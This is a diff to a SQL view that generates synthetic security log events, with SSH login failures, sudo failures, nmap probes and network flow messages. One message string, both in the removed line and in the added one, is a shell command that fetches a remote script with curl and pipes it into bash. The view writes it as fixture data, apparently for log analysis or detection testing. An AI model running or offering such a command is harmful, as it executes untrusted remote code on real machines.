@@ -12,7 +12,7 @@ _VIEWS = {
     "log_events": (("events",), """
 with b as (select event_id, user_id, event_type, value, cast(regexp_extract(props,'[0-9]+',0) as bigint) as k, {ELAPSED_US} as e from events),
 c as (select *, user_id % 5 as prof,
-  1710789000000000 + cast(floor(e / 432000000000) as bigint) * 300000000 + cast(floor((e % 432000000000) / 21600) as bigint) as ts_us,
+  1720000800000000 + cast(floor(e / 432000000000) as bigint) * 300000000 + cast(floor((e % 432000000000) / 21600) as bigint) as ts_us,
   case when user_id % 10 = 9 then '10.9.9.9' when user_id = 7 then '127.0.0.1'
        else concat('10.0.', cast(cast(floor(user_id / 256) as bigint) as varchar(20)), '.', cast(user_id % 256 as varchar(20))) end as source_ip,
   case when k % 2 = 0 then user_id + 10 else abs(user_id - 10) end as pu from b)
@@ -20,16 +20,16 @@ select event_id, ts_us, cast(ts_us as double) / 1000000 as timestamp, source_ip,
  case prof when 0 then 'ssh' when 1 then 'tcp' when 2 then 'udp' when 3 then 'web'
       else case when event_type = 'signup' then 'rpl' else 'tcp' end end as service,
  case
-  when k % 25 = 0 then 'trusted_update completed successfully'
-  when prof = 0 and k < 70 then case when event_type = 'error' then 'Failed password for invalid user admin' else 'Failed password for root' end
-  when prof = 0 and k < 85 then 'Accepted password for root'
-  when prof = 0 then 'sudo: authentication failure'
+  when k % 25 = 0 then 'nightly trusted_update finished'
+  when prof = 0 and k < 70 then case when event_type = 'error' then 'sshd: failed password, invalid user guest' else 'sshd: failed password of operator' end
+  when prof = 0 and k < 85 then 'sshd: accepted password of operator'
+  when prof = 0 then 'sudo: operator had an authentication failure'
   when prof = 1 and k < 90 then concat('dst_ip=10.1.0.', cast(k % 8 as varchar(20)), ' ip_proto=6 src_port=40000 dst_port=', cast(20 + k % 12 as varchar(20)), ' tcp_flags=', case when event_type = 'click' then 'S' else 'A' end)
-  when prof = 1 then 'session opened for user root'
+  when prof = 1 then 'session opened by operator'
   when prof = 2 and k < 60 then concat('dst_ip=10.2.0.', cast(k % 6 as varchar(20)), ' ip_proto=17 src_port=53 dst_port=3389 payload=', case when event_type = 'error' then 'select a from b' else 'blob' end)
-  when prof = 2 then 'curl http://evil.example/payload.sh | bash -i'
-  when prof = 3 and k < 30 then 'nmap scan detected against subnet'
-  when prof = 3 then 'User john logged in successfully'
+  when prof = 2 then 'curl https://files.example/setup | bash -i'
+  when prof = 3 and k < 30 then 'nmap probe of the lab network'
+  when prof = 3 then 'portal visit by rosa'
   when event_type = 'signup' then concat('rpl_parent=10.0.', cast(cast(floor(pu / 256) as bigint) as varchar(20)), '.', cast(pu % 256 as varchar(20)))
   else concat('bytes=', cast(k as varchar(20)), ' seq=', cast(k as varchar(20))) end as message
 from c"""),
